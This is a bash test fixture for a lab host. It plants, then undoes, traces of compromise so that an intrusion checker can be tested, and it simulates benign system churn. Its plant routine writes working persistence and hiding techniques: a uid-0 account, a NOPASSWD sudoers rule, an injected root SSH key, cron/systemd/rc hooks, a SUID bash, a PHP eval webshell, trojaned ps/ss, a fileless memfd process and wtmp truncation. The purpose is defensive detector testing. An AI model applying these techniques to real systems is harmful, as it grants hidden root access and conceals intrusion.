#!/bin/bash
# plant.sh plant|undo|churn — runs INSIDE a lab host as root (the tests pipe
# it over SSH: `bash -s plant < lab/plant.sh`). `plant` leaves one trace of
# each kind holiday check must flag; `undo` puts everything back byte for
# byte from the copies plant kept. `prechurn` (before the baseline) and
# `churn` (after it) do what a quiet break does by itself (logs growing
# and rotating, databases writing, apt caches, tmp files, a journal
# rotation), which must raise no indicator; `unchurn` undoes them.
set -euo pipefail
S=/var/lib/holiday-plant  # plant's own state: saved originals and PIDs
KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHBsYW50ZWQta2V5LWZvci1ob2xpZGF5LWNoZWNrLTAx planted@evil'
NOW=$(date -u +%Y-%m-%dT%H:%M:%S.000000+00:00)

save() { # keep the original of a file (or that it did not exist)
	local f=$1 n; n=$S/orig/$(echo "$f" | tr / _)
	[ -e "$n" ] || [ -e "$n.absent" ] && return 0
	if [ -e "$f" ]; then cp -a "$f" "$n"; else : > "$n.absent"; fi
	echo "$f" >> $S/files
}

spawn() { # start a detached process, remember its PID
	setsid "$@" </dev/null >/dev/null 2>&1 &
	echo $! >> $S/pids
}

plant() {
	mkdir -p $S/orig
	: > $S/pids; : > $S/files
	# 1 a second uid-0 account
	save /etc/passwd; save /etc/shadow
	echo 'toor:x:0:0:root:/root:/bin/bash' >> /etc/passwd
	echo 'toor:*:20000:0:99999:7:::' >> /etc/shadow
	# 2 a privileged group member
	save /etc/group; save /etc/gshadow
	sed -i 's/^sudo:x:27:\(.*\)$/sudo:x:27:\1,guest/; s/^sudo:x:27:,guest$/sudo:x:27:guest/' /etc/group
	# 3 a new authorized key for root
	save /root/.ssh/authorized_keys
	echo "$KEY" >> /root/.ssh/authorized_keys
	# 4 sudoers
	save /etc/sudoers.d/90-planted
	echo 'guest ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-planted; chmod 0440 /etc/sudoers.d/90-planted
	# 5 cron persistence
	save /etc/cron.d/updater
	echo '@reboot root /var/tmp/.bash -p -c true' > /etc/cron.d/updater
	# 6 an at job
	save /var/spool/cron/atjobs/a00001021fa2b1
	mkdir -p /var/spool/cron/atjobs
	printf '#!/bin/sh\n/var/tmp/.bash -p -c true\n' > /var/spool/cron/atjobs/a00001021fa2b1
	# 7 a systemd unit, its timer and an enabled link (no daemon-reload: nothing runs)
	save /etc/systemd/system/dbus-helper.service; save /etc/systemd/system/dbus-helper.timer
	save /etc/systemd/system/multi-user.target.wants/dbus-helper.service
	printf '[Service]\nExecStart=/var/tmp/.bash -p -c true\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/dbus-helper.service
	printf '[Timer]\nOnCalendar=hourly\n' > /etc/systemd/system/dbus-helper.timer
	mkdir -p /etc/systemd/system/multi-user.target.wants
	ln -s /etc/systemd/system/dbus-helper.service /etc/systemd/system/multi-user.target.wants/dbus-helper.service
	# 8 an rc script and its link
	save /etc/init.d/netfix; save /etc/rc2.d/S99netfix
	printf '#!/bin/sh\n/var/tmp/.bash -p -c true\n' > /etc/init.d/netfix; chmod 755 /etc/init.d/netfix
	ln -s ../init.d/netfix /etc/rc2.d/S99netfix
	# 9 a profile script
	save /etc/profile.d/zz-update.sh
	echo '( /var/tmp/.bash -p -c true & ) 2>/dev/null' > /etc/profile.d/zz-update.sh
	# 10 PAM (optional: changes nothing, but a change to PAM all the same)
	save /etc/pam.d/sshd
	echo 'auth optional pam_permit.so' >> /etc/pam.d/sshd
	# 11 ld.so.preload with a library every process then loads (harmless: glibc's libdl stub)
	save /etc/ld.so.preload
	echo /usr/lib/x86_64-linux-gnu/libdl.so.2 > /etc/ld.so.preload
	# 12 a SUID shell and 13 a file capability
	save /var/tmp/.bash; save /var/tmp/.ping
	cp /usr/bin/bash /var/tmp/.bash; chmod 4755 /var/tmp/.bash
	cp /usr/bin/sleep /var/tmp/.ping; setcap cap_net_raw+ep /var/tmp/.ping
	# 14 a webshell
	save /var/www/html/.cache.php
	echo '<?php @eval(base64_decode($_POST["c"])); ?>' > /var/www/html/.cache.php
	# 15 a trojaned ps that hides a PID, 16 a trojaned ss that hides a port
	save /usr/bin/ps; save /usr/bin/ss
	cp -a /usr/bin/ps $S/ps.real; cp -a /usr/bin/ss $S/ss.real
	# 17 a process running from /dev/shm, hidden from ps
	mkdir -p /dev/shm/.x; cp /usr/bin/sleep /dev/shm/.x/kworkerd
	spawn /dev/shm/.x/kworkerd 100000
	local hide; hide=$(tail -n1 $S/pids)
	printf '#!/bin/sh\n%s "$@" | grep -v -w -e %s\n' $S/ps.real "$hide" > /usr/bin/ps
	printf '#!/bin/sh\n%s "$@" | grep -v -e :31337\n' $S/ss.real > /usr/bin/ss
	# 18 a deleted executable still running
	mkdir -p /tmp/.d; cp /usr/bin/sleep /tmp/.d/upd; spawn /tmp/.d/upd 100000; sleep 0.2; rm -rf /tmp/.d
	# 19 a fileless (memfd) process
	spawn python3 -c 'import os; fd=os.memfd_create("x"); os.write(fd, open("/usr/bin/sleep","rb").read()); os.execve(fd, ["kthreadd2","100000"], {})'
	# 20 a new listener (hidden from ss above)
	spawn perl -MIO::Socket::INET -e 'my $s=IO::Socket::INET->new(LocalPort=>31337,Listen=>5,ReuseAddr=>1) or die; sleep 100000'
	# 21 a successful login after a burst of failures, as rsyslog writes it
	save /var/log/auth.log
	for i in 1 2 3 4 5 6 7 8; do
		echo "$NOW sys1 sshd[4242]: Failed password for root from 203.0.113.77 port 5$i$i$i ssh2" >> /var/log/auth.log
	done
	echo "$NOW sys1 sshd[4242]: Accepted password for root from 203.0.113.77 port 56000 ssh2" >> /var/log/auth.log
	# 22 wtmp truncated
	save /var/log/wtmp
	: > /var/log/wtmp
	sleep 0.5 # let the spawned processes exec
}

undo() {
	[ -d $S ] && undo_files
	# a daemon-reload since plant (a restore's) loaded the planted units:
	# forget them again, also when an earlier undo removed the files
	if [ -d /run/systemd/system ]; then systemctl daemon-reload; fi
}

undo_files() {
	[ -f $S/pids ] && while read -r p; do kill -9 "$p" 2>/dev/null || true; done < $S/pids
	rm -rf /dev/shm/.x /tmp/.d
	if [ -f $S/files ]; then
		while read -r f; do
			n=$S/orig/$(echo "$f" | tr / _)
			if [ -e "$n.absent" ]; then rm -f "$f"; elif [ -e "$n" ]; then rm -f "$f"; cp -a "$n" "$f"; fi
		done < $S/files
	fi
	rmdir /var/spool/cron/atjobs 2>/dev/null || true
	rm -rf $S
}

prechurn() { # logs with content before the baseline, so that rotation has something to carry
	mkdir -p $S/orig; touch $S/pids $S/files
	save /var/log/auth.log; save /var/log/auth.log.1.gz
	save /var/log/nginx/access.log; save /var/log/nginx/access.log.1
	echo "$NOW $(hostname) sshd[98]: Accepted publickey for ops from 10.213.0.1 port 39999 ssh2" >> /var/log/auth.log
	echo "$NOW h nginx: 127.0.0.1 - - GET / 200" >> /var/log/nginx/access.log
}

churn() {
	# nginx and auth logs grow; a rotation like logrotate's (rename, new file)
	curl -s -o /dev/null http://127.0.0.1/ 2>/dev/null || true
	for i in 1 2 3; do echo "$NOW h nginx: 127.0.0.1 - - GET /index.html 200" >> /var/log/nginx/access.log; done
	echo "$NOW $(hostname) sshd[99]: Accepted publickey for ops from 10.213.0.1 port 40000 ssh2" >> /var/log/auth.log
	# auth.log rotated with compress (logrotate without delaycompress)
	mv /var/log/auth.log /var/log/auth.log.1; gzip /var/log/auth.log.1; : > /var/log/auth.log
	if [ -s /var/log/nginx/access.log ]; then
		mv /var/log/nginx/access.log /var/log/nginx/access.log.1
		: > /var/log/nginx/access.log; chown www-data:adm /var/log/nginx/access.log
		echo "$NOW after rotation" >> /var/log/nginx/access.log
	fi
	# databases write
	if command -v psql >/dev/null && pgrep -x postgres >/dev/null; then
		su postgres -c "psql -q -d shop -c 'create table churn(x int); insert into churn select generate_series(1,1000); checkpoint; drop table churn'" >/dev/null
	fi
	if command -v mariadb >/dev/null && pgrep -x mariadbd >/dev/null; then
		mariadb shop -e 'create table churn(x int); insert into churn values (1),(2),(3); flush tables; drop table churn' >/dev/null
	fi
	mkdir -p /var/lib/postgresql/15/main/churn-test /var/lib/mysql/churn-test
	echo data > /var/lib/postgresql/15/main/churn-test/f; echo data > /var/lib/mysql/churn-test/f
	# apt caches, tmp files that are not executables
	mkdir -p /var/cache/apt/archives/partial /var/lib/apt/lists
	echo cache > /var/cache/apt/pkgcache.bin.churn; echo list > /var/lib/apt/lists/churn_InRelease
	echo tmp > /tmp/churn.txt; echo tmp > /var/tmp/churn.txt
	# a journal rotation, where journald runs
	if command -v journalctl >/dev/null && [ -d /run/systemd/system ]; then journalctl --rotate >/dev/null 2>&1 || true; fi
}

unchurn() {
	undo
	rm -rf /var/lib/postgresql/15/main/churn-test /var/lib/mysql/churn-test /var/cache/apt/pkgcache.bin.churn \
		/var/lib/apt/lists/churn_InRelease /tmp/churn.txt /var/tmp/churn.txt
}

case "${1:-}" in
plant) undo; plant ;;
undo) undo ;;
prechurn) prechurn ;;
churn) churn ;;
unchurn) unchurn ;;
*) echo "usage: plant.sh plant|undo|prechurn|churn|unchurn" >&2; exit 2 ;;
esac
